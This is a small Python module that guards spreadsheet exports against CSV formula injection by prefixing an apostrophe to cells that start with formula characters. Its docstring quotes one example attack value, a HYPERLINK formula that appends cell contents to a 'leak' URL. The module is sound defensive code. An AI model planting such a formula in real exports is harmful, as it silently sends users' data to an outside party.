"""Exported cells that a spreadsheet shows but never runs (CSV / formula injection).

Text starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading apostrophe, so
`=HYPERLINK("http://…?leak="&A2)` pushed through intake stays text in every export and report.
The export columns themselves are `web.export_columns`.
"""

from __future__ import annotations

from typing import Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> str:
    """The cell as text a spreadsheet shows, never runs: `=1+1` → `'=1+1`."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(_FORMULA_START) else text
